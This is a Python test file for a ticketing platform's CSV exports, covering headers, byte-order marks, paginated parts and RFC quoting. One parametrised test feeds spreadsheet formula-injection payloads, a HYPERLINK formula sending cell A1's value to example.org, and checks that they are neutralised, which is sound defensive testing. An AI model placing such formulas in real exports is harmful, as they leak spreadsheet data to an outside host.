"""What organisers take away as files: CSV that spreadsheets read and do not run, in parts."""

import csv
from datetime import timedelta
from io import StringIO

import pytest

from chalicelib.platform.http.csv_files import as_csv
from tests.contract.sales.office import Office
from tests.support.shop import CUSTOMER


def rows_of(text: str) -> list[list[str]]:
    return list(csv.reader(StringIO(text, newline="")))


@pytest.mark.parametrize("what", ["orders", "attendees", "refunds", "sales/days", "sales/opening"])
def test_every_list_is_there_as_csv(office: Office, what: str) -> None:
    concert_id, standing = office.shop.on_sale()
    office.buy(CUSTOMER, (standing, 2), name="Guðrún, “Helga”\u202e")
    office.settle()
    answer = office.get(f"/concerts/{concert_id}/{what}?format=csv")
    assert answer.headers["content-type"] == "text/csv; charset=utf-8"
    assert answer.headers["content-disposition"].startswith("attachment; filename=")
    assert answer.text.endswith("\r\n")
    header, *rows = rows_of(answer.text)
    assert all(len(row) == len(header) for row in rows)
    assert rows_of(office.get(f"/concerts/{concert_id}/{what}?format=csv&bom=true").text)[0] == [
        "\ufeff" + header[0],
        *header[1:],
    ]


def test_parts_of_a_file_follow_each_other_by_their_links_and_make_the_whole(office: Office) -> None:
    concert_id, standing = office.shop.on_sale(quantity=50)
    for _ in range(5):
        office.buy(CUSTOMER, (standing, 3))
        office.shop.clock.advance(timedelta(seconds=1))
    office.settle()
    path = f"/concerts/{concert_id}/attendees"
    whole = office.get(f"{path}?format=csv&bom=true&limit=2000")
    assert "link" not in whole.headers
    text, query = "", "?format=csv&bom=true&limit=4"
    while query:
        part = office.get(path + query)
        text += part.text
        query = part.headers.get("link", "<>").partition("<")[2].partition(">")[0]
    assert text == whole.text
    assert len(rows_of(text)) == 1 + 15


@pytest.mark.parametrize("begins", ["=", "+", "-", "@", "\t", "\r", "\n", "＝", "＋", "－", "＠"])
def test_no_spreadsheet_takes_a_name_for_a_formula(begins: str) -> None:
    evil = f'{begins}HYPERLINK("http://example.org?"&A1,"Click")'
    text = as_csv(["name"], [[evil]], with_header=True, for_excel=False)
    assert rows_of(text) == [["name"], [f"'{evil}"]]


def test_cells_with_commas_quotes_and_line_breaks_are_quoted_as_the_rfc_says() -> None:
    text = as_csv(["a", "b"], [['x,"y"\nz', None], [1, "ø"]], with_header=True, for_excel=True)
    assert text == '\ufeffa,b\r\n"x,""y""\nz",\r\n1,ø\r\n'
